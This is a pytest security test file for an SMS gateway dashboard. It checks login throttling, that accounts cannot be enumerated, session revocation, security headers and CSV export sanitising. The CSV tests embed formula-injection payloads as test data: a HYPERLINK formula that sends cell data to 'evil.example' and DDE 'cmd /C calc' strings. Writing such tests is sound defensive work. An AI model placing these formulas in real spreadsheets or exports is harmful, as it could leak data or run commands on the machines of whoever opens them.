"""The dashboard under attack, through the real HTTP boundary (Flask test client, CSRF on):
nobody can lock a coordinator out, accounts cannot be enumerated, the server ends sessions,
responses carry the browser's protections, and CSV exports cannot smuggle formulas."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import timedelta

import pytest
from click.testing import CliRunner
from sqlalchemy import select

from smsgate import create_app
from smsgate.cli import main
from smsgate.csv_cells import safe_cell
from smsgate.dashboard.accounts import ACCOUNT_FREE, ADDRESS_FREE
from smsgate.models import LoginFailure

from ..support import MANTUIL
from .conftest import ADMIN, KOTA, PASSWORD, csrf_token

ATTACKER = "203.0.113.66"
OFFICE = "198.51.100.7"
TOKEN = re.compile(r'name="csrf_token" value="[^"]+"')


def attempt(client, email: str, password: str = "salah-salah", address: str | None = None, **headers):  # type: ignore[no-untyped-def]
    """One login POST, from ``address`` (the TCP peer) with extra ``headers``."""
    environ = {"REMOTE_ADDR": address} if address else {}
    token = csrf_token(client)
    return client.post(
        "/dashboard/login",
        data={"email": email, "password": password, "csrf_token": token},
        environ_base=environ,
        headers=headers,
    )


def age_failures(database, seconds: float) -> None:  # type: ignore[no-untyped-def]
    """Let time pass for the limiter: every recorded failure happened ``seconds`` earlier."""
    with database.begin() as session:
        for failure in session.scalars(select(LoginFailure)):
            failure.created_at -= timedelta(seconds=seconds)


def page_text(response, email: str) -> str:  # type: ignore[no-untyped-def]
    """The page as a person sees it: without the email they typed and the per-page CSRF tokens."""
    return TOKEN.sub("", response.get_data(as_text=True)).replace(email, "")


# -- login limits ----------------------------------------------------------------------------


def test_known_and_unknown_accounts_answer_alike(app, users):
    """Reproduction: a known account answered 401 four times then 429, an unknown one 401 six times."""
    seen = {}
    for email in (KOTA, "tidak-ada@example.org"):
        browser = app.test_client()
        answers = [attempt(browser, email) for _ in range(ACCOUNT_FREE + 3)]
        for answer in answers:  # the wait counts down from the latest failure, one second at a time
            assert int(answer.headers.get("Retry-After", 30)) in range(25, 31)
        seen[email] = [(r.status_code, "Retry-After" in r.headers, page_text(r, email)) for r in answers]
    assert seen[KOTA] == seen["tidak-ada@example.org"]
    statuses = [status for status, _, _ in seen[KOTA]]
    assert statuses == [401] * ACCOUNT_FREE + [429] * 3


def test_guessing_is_slowed_down_not_locked(app, database, users):
    browser = app.test_client()
    for _ in range(ACCOUNT_FREE):
        assert attempt(browser, KOTA).status_code == 401
    early = attempt(browser, KOTA, PASSWORD)  # even the right password waits, from this address
    # The wait counts down by the clock from the latest failure, so a slow machine may show a
    # second or two less; what matters is that it is about 30 s, then about 60 s.
    assert early.status_code == 429 and int(early.headers["Retry-After"]) in range(25, 31)
    assert "Coba lagi dalam 1 menit" in early.get_data(as_text=True)
    age_failures(database, 31)
    assert attempt(browser, KOTA).status_code == 401  # checked again after the wait
    assert int(attempt(browser, KOTA).headers["Retry-After"]) in range(55, 61)  # the wait doubles
    age_failures(database, 61)
    assert attempt(browser, KOTA, PASSWORD).status_code == 302  # never locked


def test_the_right_password_from_another_address_always_works(app, users):
    attacker = app.test_client()
    for _ in range(ACCOUNT_FREE):
        assert attempt(attacker, KOTA, address=ATTACKER).status_code == 401
    for i in range(ADDRESS_FREE - ACCOUNT_FREE):
        assert attempt(attacker, f"tebak{i}@example.org", address=ATTACKER).status_code == 401
    assert attempt(attacker, KOTA, PASSWORD, address=ATTACKER).status_code == 429
    assert attempt(attacker, ADMIN, PASSWORD, address=ATTACKER).status_code == 429  # the address is slowed
    coordinator = app.test_client()
    assert attempt(coordinator, KOTA, PASSWORD, address=OFFICE).status_code == 302


def test_failures_with_unknown_emails_do_not_shut_the_admin_out(app, users):
    """Reproduction: 20 failed logins with unknown emails made the admin's correct password answer 429."""
    browser = app.test_client()
    for i in range(20):
        assert attempt(browser, f"guess{i}@example.org", "x").status_code == 401
    assert attempt(browser, ADMIN, PASSWORD).status_code == 302


@pytest.fixture
def proxied(settings, database, users):  # type: ignore[no-untyped-def]
    """The app behind one trusted reverse proxy: every request comes from the proxy's address."""
    app = create_app(replace(settings, trusted_proxies=1), test_config={"TESTING": True}, database=database)
    return app


def test_behind_a_trusted_proxy_the_limits_see_each_client(proxied):
    """Reproduction: behind the README's TLS proxy every user shared the proxy's address."""
    attacker = proxied.test_client()
    for i in range(25):
        email = ADMIN if i % 5 == 0 else f"guess{i}@example.org"
        attempt(attacker, email, address="127.0.0.1", **{"X-Forwarded-For": ATTACKER})
    assert attempt(attacker, ADMIN, address="127.0.0.1", **{"X-Forwarded-For": ATTACKER}).status_code == 429
    admin = proxied.test_client()
    response = attempt(admin, ADMIN, PASSWORD, address="127.0.0.1", **{"X-Forwarded-For": OFFICE})
    assert response.status_code == 302


def test_without_trusted_proxies_a_forged_forwarded_for_changes_nothing(app, users):
    browser = app.test_client()
    for i in range(ACCOUNT_FREE):
        assert attempt(browser, KOTA, **{"X-Forwarded-For": f"10.0.0.{i}"}).status_code == 401
    assert attempt(browser, KOTA, PASSWORD, **{"X-Forwarded-For": "10.0.0.200"}).status_code == 429


def test_trusted_proxies_must_be_a_number():
    from smsgate.config import Settings

    assert Settings.from_env({"SMSGATE_TRUSTED_PROXIES": "2"}).trusted_proxies == 2
    assert Settings.from_env({}).trusted_proxies == 0
    for bad in ("yes", "-1"):
        with pytest.raises(ValueError, match="SMSGATE_TRUSTED_PROXIES"):
            Settings.from_env({"SMSGATE_TRUSTED_PROXIES": bad})


# -- sessions ----------------------------------------------------------------------------------


def logged_in(app, email: str = KOTA, password: str = PASSWORD):  # type: ignore[no-untyped-def]
    browser = app.test_client()
    assert attempt(browser, email, password).status_code == 302
    return browser


def stolen_copy(app, browser):  # type: ignore[no-untyped-def]
    """Another client holding a copy of ``browser``'s session cookie (as a thief would)."""
    thief = app.test_client()
    thief.set_cookie("session", browser.get_cookie("session").value)
    assert thief.get("/dashboard/").status_code == 200
    return thief


def test_logout_ends_the_session_on_the_server(app, users):
    """Reproduction: a session cookie kept working after logout (valid 12 h)."""
    browser = logged_in(app)
    thief = stolen_copy(app, browser)
    laptop = logged_in(app)
    token = csrf_token(browser, "/dashboard/")
    assert browser.post("/dashboard/logout", data={"csrf_token": token}).status_code == 302
    assert thief.get("/dashboard/").status_code == 302
    assert thief.get("/dashboard/api/overview").status_code == 401
    assert laptop.get("/dashboard/").status_code == 302  # every session of the account
    assert logged_in(app).get("/dashboard/").status_code == 200  # logging in again works


def test_password_change_ends_every_other_session(app, users):
    browser = logged_in(app)
    thief = stolen_copy(app, browser)
    page = browser.get("/dashboard/password")
    assert page.status_code == 200 and "Ganti kata sandi" in page.get_data(as_text=True)
    token = csrf_token(browser, "/dashboard/password")

    def change(current: str, new: str, repeat: str):  # type: ignore[no-untyped-def]
        return browser.post(
            "/dashboard/password",
            data={"current": current, "new": new, "repeat": repeat, "csrf_token": token},
        )

    assert change("salah-salah", "kata-sandi-baru", "kata-sandi-baru").status_code == 403
    assert change(PASSWORD, "kata-sandi-baru", "lain-lagi-ya").status_code == 400
    assert change(PASSWORD, "pendek", "pendek").status_code == 400
    assert change(PASSWORD, "kata-sandi-baru", "kata-sandi-baru").status_code == 302
    assert browser.get("/dashboard/").status_code == 200  # this browser carries on
    assert thief.get("/dashboard/").status_code == 302
    assert attempt(app.test_client(), KOTA, PASSWORD, address=OFFICE).status_code == 401
    assert attempt(app.test_client(), KOTA, "kata-sandi-baru", address=OFFICE).status_code == 302


def cli(database_url: str, *args: str, password: str = ""):  # type: ignore[no-untyped-def]
    return CliRunner().invoke(main, list(args), input=password, env={"SMSGATE_DATABASE_URL": database_url})


def test_user_disable_ends_sessions_and_refuses_logins(app, database_url, users):
    browser = logged_in(app)
    result = cli(database_url, "user", "disable", "--email", KOTA.upper())
    assert result.exit_code == 0, result.output
    assert "disabled" in result.output
    assert browser.get("/dashboard/").status_code == 302
    refused = attempt(app.test_client(), KOTA, PASSWORD, address=OFFICE)
    wrong = attempt(app.test_client(), ADMIN, "salah-salah", address=OFFICE)
    assert refused.status_code == wrong.status_code == 401  # a disabled account is not revealed
    assert page_text(refused, KOTA) == page_text(wrong, ADMIN)
    assert cli(database_url, "user", "enable", "--email", KOTA).exit_code == 0
    assert logged_in(app).get("/dashboard/").status_code == 200
    missing = cli(database_url, "user", "disable", "--email", "nobody@example.org")
    assert missing.exit_code != 0 and "no user" in missing.output


def test_user_password_reset_ends_sessions(app, database_url, users):
    browser = logged_in(app)
    result = cli(
        database_url, "user", "password", "--email", KOTA, "--password-stdin", password="baru-sekali-ya\n"
    )
    assert result.exit_code == 0, result.output
    assert browser.get("/dashboard/").status_code == 302
    assert logged_in(app, KOTA, "baru-sekali-ya").get("/dashboard/").status_code == 200
    short = cli(database_url, "user", "password", "--email", KOTA, "--password-stdin", password="x\n")
    assert short.exit_code != 0 and "at least" in short.output


# -- headers ---------------------------------------------------------------------------------


def test_every_response_forbids_framing_and_sniffing(app, kota, client):
    for response in (client.get("/dashboard/login"), kota.get("/dashboard/review"), client.get("/healthz")):
        headers = response.headers
        assert headers["X-Frame-Options"] == "DENY"
        assert headers["X-Content-Type-Options"] == "nosniff"
        policy = headers["Content-Security-Policy"]
        assert "frame-ancestors 'none'" in policy and "script-src 'self'" in policy
        assert "unsafe-inline" not in policy
        assert "Strict-Transport-Security" not in headers  # plain http


def test_hsts_over_https(client, proxied):
    assert (
        "max-age="
        in client.get("/dashboard/login", base_url="https://localhost").headers["Strict-Transport-Security"]
    )
    behind = proxied.test_client().get("/dashboard/login", headers={"X-Forwarded-Proto": "https"})
    assert "max-age=" in behind.headers["Strict-Transport-Security"]
    plain = proxied.test_client().get("/dashboard/login", headers={"X-Forwarded-Proto": "http"})
    assert "Strict-Transport-Security" not in plain.headers


def test_dashboard_pages_use_no_inline_script_or_style(admin):
    for path in ("/dashboard/", "/dashboard/regions/63.71", "/dashboard/review", "/dashboard/password"):
        html = admin.get(path).get_data(as_text=True)
        assert " style=" not in html and "<style" not in html, path
        assert "<script>" not in html and " on" + "click=" not in html, path


# -- CSV ---------------------------------------------------------------------------------------

HYPERLINK = '+HYPERLINK("http://evil.example/?d="&A1,"klik")'
CALC = "@SUM(1+9)*cmd|' /C calc'!A0"


def test_csv_exports_neutralise_formulas(runner, monkeypatch, database_url, sms, admin):
    """Reproduction: names registered by SMS reached volunteers.csv as live spreadsheet formulas."""
    monkeypatch.setenv("SMSGATE_DATABASE_URL", database_url)
    created = runner.invoke(main, ["invite", "create", "--region", MANTUIL, "--tps", "12", "--count", "2"])
    first, second = [line for line in created.stdout.splitlines() if line]
    assert sms("+6285200000011", f"DAFTAR {first} {HYPERLINK}").startswith("OK")
    assert sms("+6285200000012", f"DAFTAR {second} {CALC}").startswith("OK")
    response = admin.get("/dashboard/volunteers.csv")
    rows = {row["phone"]: row for row in csv.DictReader(io.StringIO(response.get_data(as_text=True)))}
    assert rows["+6285200000011"]["name"].startswith("'+HYPERLINK(")
    assert rows["+6285200000012"]["name"] == "'" + CALC
    assert all(phone.startswith("+62") for phone in rows)  # E.164 phones stay dialable
    results = admin.get("/dashboard/export/results.csv?region=63.71").get_data(as_text=True)
    assert "'" not in results


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=evil()", "'\t=evil()"),
        ("\r=evil()", "'\r=evil()"),
        ("@x", "'@x"),
        ("+62 811 (kantor)", "'+62 811 (kantor)"),
        ("-5", "-5"),
        ("+3.25", "+3.25"),
        ("+6281234567890", "+6281234567890"),
        ("Siti Aminah", "Siti Aminah"),
        (-7, -7),
        (None, None),
    ],
)
def test_safe_cell(value, written):
    assert safe_cell(value) == written
